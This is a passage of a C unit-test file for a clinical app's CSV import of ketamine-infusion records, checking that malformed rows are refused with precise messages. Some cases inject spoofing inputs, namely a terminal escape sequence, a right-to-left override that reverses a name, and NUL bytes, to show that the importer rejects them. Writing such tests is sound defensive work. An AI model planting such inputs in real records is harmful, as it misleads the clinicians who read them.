  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_COURSE, NULL), ==, 1);
}

/* ---- bad rows ------------------------------------------------------------------- */

typedef struct {
  const char *name;
  TrajCsvFile file;
  const char *from;
  const char *to;
  const char *where;        /* "file:line:" */
  const char *reason;       /* part of the reason */
  guint n_problems;         /* 0: just this one */
} BadRow;

/* An infusion row between started_at and ready_at. */
#define INFUSION_MIDDLE ",40,iv,ketamine,L1,induction,70.3,0.5,35.15,\"nausea,dissociation\",brief,benzodiazepine,60,"

static const BadRow bad_rows[] = {
  { "bad-date", TRAJ_CSV_PATIENTS, "1975-07-08", "1975-02-30",
    "patients.csv:4:", "birth_date “1975-02-30” is not a date" },
  { "bad-time", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z", "2026-01-10 9am",
    "infusions.csv:2:", "started_at" },
  { "dose-range", TRAJ_CSV_INFUSIONS, ",0.5,35.15,", ",9,35.15,",
    "infusions.csv:2:", "9 mg/kg is outside" },
  { "unknown-scale", TRAJ_CSV_ASSESSMENTS, ",gad7,", ",gad8,",
    "assessments.csv:3:", "unknown scale “gad8”" },
  { "safety-highest-range", TRAJ_CSV_ASSESSMENTS, ",2\r\n", ",4\r\n",
    "assessments.csv:2:", "safety_highest must be empty or 1–3, the highest answer to item 9" },
  { "safety-highest-zero", TRAJ_CSV_ASSESSMENTS, ",2\r\n", ",0\r\n",
    "assessments.csv:2:", "safety_highest must be empty or 1–3" },
  { "safety-highest-not-tablet", TRAJ_CSV_ASSESSMENTS, ",tablet,pre,", ",clinician,pre,",
    "assessments.csv:2:", "safety_highest is kept only for questionnaires answered on the tablet" },
  { "safety-highest-no-item", TRAJ_CSV_ASSESSMENTS, "1,1,,,,,,,,,,,,,,,,,,,\r\n", "1,1,,,,,,,,,,,,,,,,,,,1\r\n",
    "assessments.csv:3:", "safety_highest is given, but gad7 has no safety item" },
  { "item-range", TRAJ_CSV_ASSESSMENTS, ",,,2,2,2,2,2,2,2,1,0,", ",,,2,2,7,2,2,2,2,1,0,",
    "assessments.csv:2:", "item 3: answer 7 is outside 0–3" },
  { "total-mismatch", TRAJ_CSV_ASSESSMENTS, ",true,15,", ",true,16,",
    "assessments.csv:2:", "total 16 does not match the items" },
  { "unknown-patient", TRAJ_CSV_COURSES, C1 "," P1, C1 ",12345678-1234-4234-8234-123456789abc",
    "courses.csv:2:", "patient_uid 12345678-1234-4234-8234-123456789abc is neither" },
  { "duplicate-mrn", TRAJ_CSV_PATIENTS, ",M-2,", ",M-1,",
    "patients.csv:4:", "MRN M-1 is already used" },
  { "duplicate-uid", TRAJ_CSV_VITAL_SIGNS, "66666666-6666-4666-8666-666666666666", "55555555-5555-4555-8555-555555555555",
    "vital_signs.csv:3:", "is already used" },
  { "column-count", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,120,80,72,98",
    "vital_signs.csv:2:", "the row has 7 fields; the header has 8" },
  { "unterminated-quote", TRAJ_CSV_FLAG_DECISIONS, ",Talked,", ",\"Talked,",
    "flag_decisions.csv:2:", "not closed before the end of the file" },
  { "stray-quote", TRAJ_CSV_COURSES, "IV 0.5 mg/kg", "IV \"0.5\" mg/kg",
    "courses.csv:2:", "a quote inside a field" },
  { "other-patients-course", TRAJ_CSV_INFUSIONS, I1 "," P1 "," C1, I1 "," P2 "," C1,
    "infusions.csv:2:", "course_uid " C1 " belongs to another patient" },
  { "missing-column", TRAJ_CSV_COURSES, ",status,notes", ",state,notes",
    "courses.csv:1:", "unknown column “state”",
    /* and “status” is missing; the rows naming its courses are not reported */
    2 },
  /* CLINICAL.md §7: the same rules as typed records. */
  { "bp-diastolic-above", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,80,120,72,98,14",
    "vital_signs.csv:2:", "Blood pressure 80/120: the diastolic value (120) must be below the systolic (80)" },
  { "bp-gap", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,300,20,72,98,14",
    "vital_signs.csv:2:", "Blood pressure 300/20: systolic and diastolic are more than 200 mmHg apart" },
  { "infusion-before-birth", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z" INFUSION_MIDDLE "2026-01-10T10:40:00Z",
    "1979-01-10T09:00:00Z" INFUSION_MIDDLE "1979-01-10T10:40:00Z",
    "infusions.csv:2:", "The infusion is dated 10 Jan 1979, before the patient’s birth date (3 Feb 1980)." },
  { "assessment-before-birth", TRAJ_CSV_ASSESSMENTS, "2026-01-11T08:30:00Z", "1980-02-02T08:30:00Z",
    "assessments.csv:3:", "The scores are dated 2 Feb 1980, before the patient’s birth date (3 Feb 1980)." },
  { "infusion-before-course", TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z" INFUSION_MIDDLE "2026-01-10T10:40:00Z",
    "2025-12-01T09:00:00Z" INFUSION_MIDDLE "2025-12-01T10:40:00Z",
    "infusions.csv:2:", "This infusion is dated 1 Dec 2025, 40 days before its course starts (10 Jan 2026). "
    "If the date is right, confirm it with date_confirmed “before_course”; otherwise correct started_at." },
  { "infusion-confirm-unknown", TRAJ_CSV_INFUSIONS, "Dr. A,,,38", "Dr. A,,yes,38",
    "infusions.csv:2:", "date_confirmed “yes” is not a list of codes" },

  /* Issue 16 §1: an import stores exactly what the file says or refuses the
   * row. Each of these was accepted and stored changed (or was stored
   * although no record can be like it) before. */
  /* Negative numbers were read as "not recorded". */
  { "negative-vitals", TRAJ_CSV_VITAL_SIGNS, ",0,120,80,72,98,14", ",0,-120,-80,72,98,14",
    "vital_signs.csv:2:", "systolic “-120” is not a whole number (digits only, e.g. 72)", 2 },
  { "negative-item", TRAJ_CSV_ASSESSMENTS, ",,,,1,1,,,", ",,,,1,-1,,,",
    "assessments.csv:3:", "item_2 “-1” is not a whole number" },
  { "negative-total", TRAJ_CSV_ASSESSMENTS, ",true,15,", ",true,-5,",
    "assessments.csv:2:", "total “-5” is not a whole number" },
  /* Lenient parsing. */
  { "hex-weight", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",0x50,0.5,40,",
    "infusions.csv:2:", "weight_kg “0x50” is not a decimal number (digits, optionally “.” and up to 6 more, e.g. 72.5)" },
  { "space-weight", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ", 70.3,0.5,35.15,",
    "infusions.csv:2:", "weight_kg “ 70.3” is not a decimal number" },
  { "plus-duration", TRAJ_CSV_INFUSIONS, "Z,40,iv,", "Z,+40,iv,",
    "infusions.csv:2:", "duration_min “+40” is not a whole number" },
  { "exponent-dose", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,5e-1,35.15,",
    "infusions.csv:2:", "dose_mg_per_kg “5e-1” is not a decimal number" },
  { "leading-zero", TRAJ_CSV_COURSES, ",6,2026-01-10,", ",06,2026-01-10,",
    "courses.csv:2:", "induction_length “06” is not a whole number" },
  { "capital-code", TRAJ_CSV_PATIENTS, ",female,", ",Female,",
    "patients.csv:2:", "unknown sex “Female” (one of: unknown, female, male, other)" },
  { "scale-spelling", TRAJ_CSV_ASSESSMENTS, ",gad7,", ",gad\t\t7,",
    "assessments.csv:3:", "unknown scale “gad\\x09\\x097” (one of: phq9, gad7, pain_nrs, pcl5, madrs" },
  { "complete-1", TRAJ_CSV_ASSESSMENTS, ",true,15,", ",1,15,",
    "assessments.csv:2:", "complete “1” is not true or false" },
  { "time-without-zone", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",2026-01-10T09:00:00,",
    "infusions.csv:2:", "started_at “2026-01-10T09:00:00” is not a date and time (YYYY-MM-DDTHH:MM:SSZ" },
  { "fractional-seconds", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",2026-01-10T09:00:00.5Z,",
    "infusions.csv:2:", "started_at “2026-01-10T09:00:00.5Z” is not a date and time" },
  /* Issue 16 (trial finding 7): a number or a code list in another form
   * than export writes would not be kept byte for byte. */
  { "trailing-zero", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,0.50,35.15,",
    "infusions.csv:2:", "dose_mg_per_kg “0.50” ends in a zero after the point; write it as 0.5 (the import keeps" },
  { "point-zero", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,0.5,35.150000,",
    "infusions.csv:2:", "total_mg “35.150000” ends in a zero after the point; write it as 35.15 " },
  { "whole-point-zero", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.0,0.5,35.15,",
    "infusions.csv:2:", "weight_kg “70.0” ends in a zero after the point; write it as 70 " },
  { "codes-order", TRAJ_CSV_INFUSIONS, "\"nausea,dissociation\"", "\"dissociation,nausea\"",
    "infusions.csv:2:", "side_effects “dissociation,nausea” lists its codes out of order; write them as "
    "“nausea,dissociation”" },
  { "epoch-is-not-none", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",1970-01-01T00:00:00Z,",
    "infusions.csv:2:", "ready_at “1970-01-01T00:00:00Z”: 1970-01-01 00:00:00 UTC stands for “no date” and is not plausible." },
  { "epoch-created", TRAJ_CSV_PATIENTS, ",2026-01-05T09:00:00Z,", ",1970-01-01T00:00:00Z,",
    "patients.csv:2:", "created_at “1970-01-01T00:00:00Z”: 1970-01-01 00:00:00 UTC stands for “no date” and is not plausible." },
  { "before-1970", TRAJ_CSV_PATIENTS, ",2026-01-05T09:00:00Z,", ",1969-12-31T23:59:59Z,",
    "patients.csv:2:", "created_at “1969-12-31T23:59:59Z”: a date before 1970 is not plausible." },
  /* Issue 16 (trial finding 6): the course began before its patient was born. */
  { "course-before-birth", TRAJ_CSV_COURSES, ",6,2026-01-10,,induction,", ",6,1979-12-31,,induction,",
    "courses.csv:2:", "The course starts on 31 Dec 1979, before the patient’s birth date (3 Feb 1980)." },
  { "name-trimmed", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ", Ben Bianchi ,",
    "patients.csv:4:", "name “ Ben Bianchi ” starts or ends with a space" },
  /* Control characters. */
  { "unit-separator", TRAJ_CSV_PATIENTS, ",chronic_pain,,", ",chronic_pain,a\x1f" "b,",
    "patients.csv:4:", "Notes: the control character U+001F cannot be stored." },
  { "escape", TRAJ_CSV_INFUSIONS, ",Dr. A,", ",Dr.\x1b[31mA,",
    "infusions.csv:2:", "Clinician: the control character U+001B cannot be stored." },
  { "bell-in-name", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben\aBianchi,",
    "patients.csv:4:", "Name: the control character U+0007 cannot be stored." },
  /* Attack run: a right-to-left override made a name read backwards. */
  { "bidi-override-name", TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben \u202EihcnaiB,",
    "patients.csv:4:", "Name: the invisible formatting character U+202E (such as a right-to-left override) cannot be stored here." },
  { "isolate-in-mrn", TRAJ_CSV_PATIENTS, ",M-2,", ",M-\u20662\u2069,",
    "patients.csv:4:", "MRN: the invisible formatting character U+2066" },
  /* Implausible values. */
  { "year-0001", TRAJ_CSV_INFUSIONS, ",2026-01-10T09:00:00Z,", ",0001-01-10T09:00:00Z,",
    "infusions.csv:2:", "started_at “0001-01-10T09:00:00Z”: a date before 1970 is not plausible." },
  { "ready-9999", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",9999-01-10T10:40:00Z,",
    "infusions.csv:2:", "“Ready to leave” must be between the start" },
  { "ready-before-start", TRAJ_CSV_INFUSIONS, ",2026-01-10T10:40:00Z,", ",2026-01-10T08:40:00Z,",
    "infusions.csv:2:", "“Ready to leave” must be between the start" },
  { "course-end-9999", TRAJ_CSV_COURSES, ",2026-01-10,,induction,", ",2026-01-10,9999-12-31,ended,",
    "courses.csv:2:", "The course ends more than a year from now" },
  { "updated-before-created", TRAJ_CSV_PATIENTS, "2026-01-05T09:00:00Z,2026-01-06T10:00:00Z", "2026-01-05T09:00:00Z,2026-01-04T10:00:00Z",
    "patients.csv:2:", "The patient was last changed before being created" },
  /* CLINICAL.md §8: a detail belongs to its indication; the flag says who. */
  { "detail-of-another-indication", TRAJ_CSV_PATIENTS, ",crps,", ",trd,",
    "patients.csv:4:", "Indication detail “trd” is not one of Chronic pain’s (crps, fibromyalgia, neuropathic, "
    "migraine, other_pain), or empty." },
  { "course-detail-wrong", TRAJ_CSV_COURSES, ",induction,,trd", ",induction,,migraine",
    "courses.csv:2:", "Indication detail “migraine” is not one of Depression’s (mdd, trd, postpartum), or empty." },
  { "risk-by-without-at", TRAJ_CSV_PATIENTS, ",trd,2026-01-05T09:30:00Z,Dr. A", ",trd,,Dr. A",
    "patients.csv:2:", "risk_si_by is given but risk_si_at is empty" },
  /* Issue 15: the history of substance use is one of four codes. */
  { "substance-use-unknown-code", TRAJ_CSV_PATIENTS, ",crps,,,none\r\n", ",crps,,,sometimes\r\n",
    "patients.csv:4:", "unknown substance_use “sometimes” (one of: unknown, none, past, current)" },
  { "substance-use-label", TRAJ_CSV_PATIENTS, ",Dr. A,past\r\n", ",Dr. A,In the past\r\n",
    "patients.csv:2:", "unknown substance_use “In the past”" },
  { "free-text-decision", TRAJ_CSV_FLAG_DECISIONS, ",acknowledged,", ",ignored it,",
    "flag_decisions.csv:2:", "A safety finding is decided with one of: acknowledged." },
  /* CLINICAL.md §8 per-infusion tolerability: the ranges of the form. */
  { "cadss-range", TRAJ_CSV_INFUSIONS, ",38,3,", ",93,3,",
    "infusions.csv:2:", "A CADSS total of 93 is outside 0–92 (23 items scored 0–4)." },
  { "moaas-range", TRAJ_CSV_INFUSIONS, ",38,3,", ",38,6,",
    "infusions.csv:2:", "A lowest MOAA/S of 6 is outside 0–5 (0 = no response, 5 = responds readily to name)." },
  { "moaas-negative", TRAJ_CSV_INFUSIONS, ",38,3,", ",38,-1,",
    "infusions.csv:2:", "moaas_lowest “-1” is not a whole number" },
  /* A course is one medicine, as in the form and the store. */
  { "course-medicine", TRAJ_CSV_INFUSIONS, ",38,3" NO_REMS "\r\n",
    ",38,3" NO_REMS "\r\nbbbbbbbb-4444-4444-8444-444444444444," P1 "," C1 ",2026-01-12T09:00:00Z,5,intranasal,esketamine,L2,"
    "induction,0,0,56,,,,120,,Dr. A,,,," NO_REMS "\r\n",
    "infusions.csv:3:", "This course’s infusions are Ketamine (racemic); an infusion of Esketamine belongs in a "
    "course of its own." },
  /* CLINICAL.md §8 monitoring record: answers are exactly true or false,
   * and what happened only with an adverse event. */
  { "rems-answer-yes", TRAJ_CSV_INFUSIONS, ",38,3" NO_REMS, ",38,3,,,,,,yes,,,,",
    "infusions.csv:2:", "rems_sedation “yes” is not true or false" },
  { "rems-note-without-adverse", TRAJ_CSV_INFUSIONS, ",38,3" NO_REMS, ",38,3,,,,,,,,,false,Nausea",
    "infusions.csv:2:", "rems_adverse_note is given but rems_adverse is not true" },
  { "rems-id-spaced", TRAJ_CSV_INFUSIONS, ",38,3" NO_REMS, ",38,3,, RP-1,,,,,,,,",
    "infusions.csv:2:", "rems_patient_id “ RP-1” starts or ends with a space" },
  /* CLINICAL.md §8 medicines: the classes, the days, the names. */
  { "medication-class-capital", TRAJ_CSV_MEDICATIONS, ",benzodiazepine,", ",Benzodiazepine,",
    "medications.csv:2:", "unknown class “Benzodiazepine” (one of: benzodiazepine, z_drug, lamotrigine" },
  { "medication-stop-before-start", TRAJ_CSV_MEDICATIONS, ",2024-05-01,2026-01-09", ",2024-05-01,2024-04-30",
    "medications.csv:3:", "The stop date (30 Apr 2024) is before the start date (1 May 2024)." },
  { "medication-start-ahead", TRAJ_CSV_MEDICATIONS, ",2024-05-01,2026-01-09", ",2099-05-01,",
    "medications.csv:3:", "The start date (1 May 2099) is in the future." },
  { "medication-no-name", TRAJ_CSV_MEDICATIONS, ",Lorazepam,", ",,",
    "medications.csv:2:", "Enter the medicine’s name." },
  { "medication-name-spaced", TRAJ_CSV_MEDICATIONS, ",Lorazepam,", ",Lorazepam ,",
    "medications.csv:2:", "name “Lorazepam ” starts or ends with a space" },
  { "medication-unknown-patient", TRAJ_CSV_MEDICATIONS, "cccccccc-cccc-4ccc-8ccc-cccccccccccc," P1,
    "cccccccc-cccc-4ccc-8ccc-cccccccccccc,12345678-1234-4123-8123-123456789012",
    "medications.csv:2:", "patient_uid 12345678-1234-4123-8123-123456789012" },
  { "total-mg-disagrees", TRAJ_CSV_INFUSIONS, ",70.3,0.5,35.15,", ",70.3,0.5,350,",
    "infusions.csv:2:", "The total dose of 350 mg does not match 70.3 kg × 0.5 mg/kg = 35.15 mg." },
};

static void
test_bad_row (Fixture *fx, gconstpointer data)
{
  const BadRow *bad = data;
  g_autoptr(TrajStore) store = open_store (fx, "bad.db");
  g_autofree char *dir = path_in (fx, bad->name);
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autofree char *first = NULL;
  GError *error = NULL;

  write_small (dir, bad->file, bad->from, bad->to);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_test_message ("%s", error->message);
  g_clear_error (&error);

  g_assert_cmpuint (report->n_problems, >=, 1);
  first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
  g_test_message ("%s", first);
  g_assert_true (g_str_has_prefix (first, bad->where));
  g_assert_nonnull (strstr (first, bad->reason));
  /* One bad row, one report: the rows that name it are not reported again. */
  g_assert_cmpuint (report->n_problems, ==, bad->n_problems ? bad->n_problems : 1);

  /* Nothing written, not even the audit event of the import. */
  for (TrajRecordKind k = TRAJ_KIND_PATIENT; k <= TRAJ_KIND_FLAG_DECISION; k++)
    g_assert_cmpint (traj_store_count (store, k, NULL), ==, 0);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE action = 'import'"), ==, 0);

  /* And the store still takes the good files afterwards. */
  remove_tree (dir);
  write_small (dir, 0, NULL, NULL);
  g_assert_true (traj_csv_import (store, dir, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
}

static void
test_many_bad_rows (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "many.db");
  g_autofree char *dir = path_in (fx, "many");
  g_autofree char *vitals = NULL;
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autoptr(GString) text = g_string_new (small_files[TRAJ_CSV_VITAL_SIGNS]);
  GError *error = NULL;

  /* Every bad row is listed, in file order. */
  write_small (dir, TRAJ_CSV_PATIENTS, "1980-02-03", "1980-02-3");
  g_string_replace (text, ",120,80,", ",400,80,", 1);
  g_string_replace (text, ",97,", ",40,", 1);
  vitals = g_build_filename (dir, "vital_signs.csv", NULL);
  write_file (vitals, text->str);
  g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
  g_clear_error (&error);
  g_assert_cmpuint (report->n_problems, ==, 3);
  g_assert_cmpstr (((TrajCsvProblem *) g_ptr_array_index (report->problems, 0))->file, ==, "patients.csv");
  g_assert_cmpuint (((TrajCsvProblem *) g_ptr_array_index (report->problems, 0))->line, ==, 2);
  g_assert_cmpstr (((TrajCsvProblem *) g_ptr_array_index (report->problems, 1))->file, ==, "vital_signs.csv");
  g_assert_cmpuint (((TrajCsvProblem *) g_ptr_array_index (report->problems, 1))->line, ==, 2);
  g_assert_cmpuint (((TrajCsvProblem *) g_ptr_array_index (report->problems, 2))->line, ==, 3);
  g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
}

/* A file cannot be asked to confirm a date: its rows say so themselves.
 * date_confirmed lets a warned row in (and the audit trail keeps the
 * confirmation); two complete questionnaires of a scale in one minute are
 * refused, naming both; a file from before date_confirmed still imports. */
static void
test_plausible_import (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "plausible.db");
  g_autofree char *dir = path_in (fx, "plausible");
  g_autofree char *dir2 = path_in (fx, "ties");
  g_autofree char *dir3 = path_in (fx, "old");
  g_autofree char *again = path_in (fx, "plausible-again");
  g_autofree char *assessments = g_build_filename (dir2, "assessments.csv", NULL);
  g_autofree char *infusions = g_build_filename (dir3, "infusions.csv", NULL);
  g_autofree char *first = NULL;
  g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
  g_autoptr(GString) text = NULL;
  g_autoptr(TrajPatient) p = NULL;
  g_autoptr(TrajPatientRecords) r = NULL;
  const TrajInfusion *i;
  GError *error = NULL;

  /* 40 days before its course, confirmed in the file: imported as confirmed. */
  write_small (dir, TRAJ_CSV_INFUSIONS, "2026-01-10T09:00:00Z,40,iv", "2025-12-01T09:00:00Z,40,iv");
  {
    g_autofree char *path = g_build_filename (dir, "infusions.csv", NULL);
    g_autofree char *t = read_file (path);
    GString *g = g_string_new (t);
    g_assert_cmpuint (g_string_replace (g, "Dr. A,,,38", "Dr. A,,before_course,38", 1), ==, 1);
    /* Ready to leave on the same day as the (moved) start. */
    g_assert_cmpuint (g_string_replace (g, ",2026-01-10T10:40:00Z,", ",2025-12-01T10:40:00Z,", 1), ==, 1);
    write_file (path, g->str);
    g_string_free (g, TRUE);
  }
  /* Confirming another warning than the one that applies is no confirmation. */
  {
    g_autofree char *path = g_build_filename (dir, "infusions.csv", NULL);
    g_autofree char *t = read_file (path);
    GString *g = g_string_new (t);
    g_autoptr(TrajStore) wrong = open_store (fx, "wrong.db");

    g_assert_cmpuint (g_string_replace (g, ",before_course,", ",near_infusion,", 1), ==, 1);
    write_file (path, g->str);
    g_assert_false (traj_csv_import (wrong, dir, report, NULL, NULL, NULL, &error));
    g_clear_error (&error);
    first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
    g_test_message ("%s", first);
    g_assert_true (g_str_has_prefix (first, "infusions.csv:2: This infusion is dated 1 Dec 2025, 40 days before"));
    g_clear_pointer (&first, g_free);
    g_assert_cmpuint (g_string_replace (g, ",near_infusion,", ",before_course,", 1), ==, 1);
    write_file (path, g->str);
    g_string_free (g, TRUE);
  }
  g_assert_true (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  p = traj_store_find_patient_by_mrn (store, "M-1", &error);
  r = traj_store_load_patient_records (store, p->id, &error);
  g_assert_no_error (error);
  i = g_ptr_array_index (r->infusions, 0);
  g_assert_cmphex (i->date_confirmed, ==, TRAJ_DATE_WARNING_BEFORE_COURSE);
  g_assert_cmpint (count (store, "SELECT count(*) FROM audit_event WHERE action = 'confirm' AND record_uid = '" I1 "' "
                                 "AND summary LIKE 'date confirmed: This infusion is dated 1 Dec 2025, 40 days before%'"), ==, 1);
  /* ... and exported as it was read. */
  g_assert_true (traj_csv_export (store, again, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  assert_same_files (dir, again);

  /* Ties: a second complete PHQ-9 in the same minute as the first. */
  write_small (dir2, 0, NULL, NULL);
  text = g_string_new (small_files[TRAJ_CSV_ASSESSMENTS]);
  g_string_append (text, "bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb," P1 "," C1 ",,phq9,2026-01-10T08:30:59Z,clinician,pre,true,9,,,,"
                         "1,1,1,1,1,1,1,1,1,,,,,,,,,,,,\r\n");
  write_file (assessments, text->str);
  {
    g_autoptr(TrajStore) empty = open_store (fx, "ties.db");
    g_assert_false (traj_csv_import (empty, dir2, report, NULL, NULL, NULL, &error));
    g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
    g_clear_error (&error);
    g_assert_cmpuint (report->n_problems, ==, 1);
    first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
    g_test_message ("%s", first);
    g_assert_true (g_str_has_prefix (first, "assessments.csv:5: assessment 77777777-7777-4777-8777-777777777777 and "
                                            "bbbbbbbb-bbbb-4bbb-8bbb-bbbbbbbbbbbb: A complete PHQ-9 (total 15) was already "
                                            "recorded"));
    g_assert_nonnull (strstr (first, "this PHQ-9 (total 9, "));
    g_assert_cmpint (traj_store_count (empty, TRAJ_KIND_PATIENT, NULL), ==, 0);
  }

  /* An infusions.csv without date_confirmed, cadss_total, moaas_lowest and
   * the monitoring record's columns (an older Trajectory's). */
  write_small (dir3, 0, NULL, NULL);
  text = g_string_new (small_files[TRAJ_CSV_INFUSIONS]);
  g_assert_cmpuint (g_string_replace (text, ",notes,date_confirmed,cadss_total,moaas_lowest" REMS_COLUMNS "\r\n",
                                      ",notes\r\n", 1), ==, 1);
  g_assert_cmpuint (g_string_replace (text, "Dr. A,,,38,3" NO_REMS "\r\n", "Dr. A,\r\n", 1), ==, 1);
  write_file (infusions, text->str);
  {
    g_autoptr(TrajStore) old = open_store (fx, "old.db");
    g_assert_true (traj_csv_import (old, dir3, NULL, NULL, NULL, NULL, &error));
    g_assert_no_error (error);
    g_assert_cmpint (traj_store_count (old, TRAJ_KIND_INFUSION, NULL), ==, 1);
    /* Recognised by its header alone, too. */
    {
      g_autofree char *renamed = path_in (fx, "infusions-old.csv");
      g_autoptr(TrajStore) single = open_store (fx, "single.db");
      g_autofree char *patients = g_build_filename (dir3, "patients.csv", NULL);
      g_autofree char *courses = g_build_filename (dir3, "courses.csv", NULL);
      write_file (renamed, text->str);
      g_assert_true (traj_csv_import (single, patients, NULL, NULL, NULL, NULL, &error));
      g_assert_true (traj_csv_import (single, courses, NULL, NULL, NULL, NULL, &error));
      g_assert_true (traj_csv_import (single, renamed, NULL, NULL, NULL, NULL, &error));
      g_assert_no_error (error);
      g_assert_cmpint (traj_store_count (single, TRAJ_KIND_INFUSION, NULL), ==, 1);
    }
  }
}

/* A NUL byte used to end a field early: "Ben\0Bianchi" was stored as
 * "Ben", a uid cut short named another record, "6\0\0" read as 6. */
static void
test_nul_bytes (Fixture *fx, gconstpointer data)
{
  static const struct {
    TrajCsvFile file;
    const char *from;
    const char *to;           /* '#' stands for a NUL byte */
    const char *where;
  } cases[] = {
    { TRAJ_CSV_PATIENTS, ",Ben Bianchi,", ",Ben#Bianchi,", "patients.csv:4:" },
    { TRAJ_CSV_PATIENTS, P2 ",M-2", "22222222#-2222-4222-8222-222222222222,M-2", "patients.csv:4:" },
    { TRAJ_CSV_COURSES, ",6,2026-01-10,", ",6##,2026-01-10,", "courses.csv:2:" },
    { TRAJ_CSV_FLAG_DECISIONS, ",Talked,", ",\"Tal#ked\",", "flag_decisions.csv:2:" },
  };

  for (guint k = 0; k < G_N_ELEMENTS (cases); k++)
    {
      g_autofree char *name = g_strdup_printf ("nul-%u", k);
      g_autofree char *db = g_strdup_printf ("nul-%u.db", k);
      g_autoptr(TrajStore) store = open_store (fx, db);
      g_autofree char *dir = path_in (fx, name);
      g_autofree char *path = NULL;
      g_autoptr(GString) text = g_string_new (small_files[cases[k].file]);
      g_autoptr(TrajCsvReport) report = traj_csv_report_new ();
      g_autofree char *first = NULL;
      GError *error = NULL;

      write_small (dir, 0, NULL, NULL);
      g_assert_cmpuint (g_string_replace (text, cases[k].from, cases[k].to, 1), ==, 1);
      for (gsize b = 0; b < text->len; b++)
        if (text->str[b] == '#')
          text->str[b] = '\0';
      path = g_build_filename (dir, traj_csv_file_name (cases[k].file), NULL);
      g_assert_true (g_file_set_contents (path, text->str, (gssize) text->len, &error));
      g_assert_no_error (error);

      g_assert_false (traj_csv_import (store, dir, report, NULL, NULL, NULL, &error));
      g_assert_error (error, TRAJ_ERROR, TRAJ_ERROR_INVALID);
      g_clear_error (&error);
      first = traj_csv_problem_to_string (g_ptr_array_index (report->problems, 0));
      g_test_message ("%s", first);
      g_assert_true (g_str_has_prefix (first, cases[k].where));
      g_assert_nonnull (strstr (first, "NUL byte (0x00)"));
      g_assert_cmpint (traj_store_count (store, TRAJ_KIND_PATIENT, NULL), ==, 0);
    }
}

/* The forms docs/csv-format.md allows besides what export writes, each
 * stored as the value the file states. */
static void
test_documented_forms (Fixture *fx, gconstpointer data)
{
  g_autoptr(TrajStore) store = open_store (fx, "forms.db");
  g_autofree char *dir = path_in (fx, "forms");
  g_autofree char *infusions = NULL;
  g_autofree char *patients = NULL;
  g_autoptr(GString) text = g_string_new (small_files[TRAJ_CSV_INFUSIONS]);
  g_autoptr(TrajPatientRecords) r = NULL;
  g_autoptr(TrajPatient) p = NULL;
  const TrajInfusion *i;
  GError *error = NULL;

  write_small (dir, 0, NULL, NULL);
  /* An offset instead of Z (trailing zeros and codes in another order are
   * refused instead: see the cases trailing-zero and codes-order). */
  g_assert_cmpuint (g_string_replace (text, ",2026-01-10T09:00:00Z,", ",2026-01-10T10:00:00+01:00,", 1), ==, 1);
  infusions = g_build_filename (dir, "infusions.csv", NULL);
  write_file (infusions, text->str);
  /* An empty history of substance use: not recorded (issue 15). */
  g_string_assign (text, small_files[TRAJ_CSV_PATIENTS]);
  g_assert_cmpuint (g_string_replace (text, ",crps,,,none\r\n", ",crps,,,\r\n", 1), ==, 1);
  patients = g_build_filename (dir, "patients.csv", NULL);
  write_file (patients, text->str);

  g_assert_true (traj_csv_import (store, dir, NULL, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  p = traj_store_find_patient_by_mrn (store, "M-1", &error);
  g_assert_no_error (error);
  r = traj_store_load_patient_records (store, p->id, &error);
  g_assert_no_error (error);
  i = g_ptr_array_index (r->infusions, 0);
  g_assert_cmpint (i->started_at, ==, traj_time_from_iso ("2026-01-10T09:00:00Z", NULL));
  g_assert_cmpfloat (i->weight_kg, ==, 70.3);
  g_assert_cmpfloat (i->dose_mg_per_kg, ==, 0.5);
  g_assert_cmpuint (i->side_effects, ==, TRAJ_SIDE_NAUSEA | TRAJ_SIDE_DISSOCIATION);
  g_clear_pointer (&p, traj_patient_free);
  p = traj_store_find_patient_by_mrn (store, "M-2", &error);
  g_assert_no_error (error);
  g_assert_cmpint (p->substance_use, ==, TRAJ_SUBSTANCE_USE_UNKNOWN);
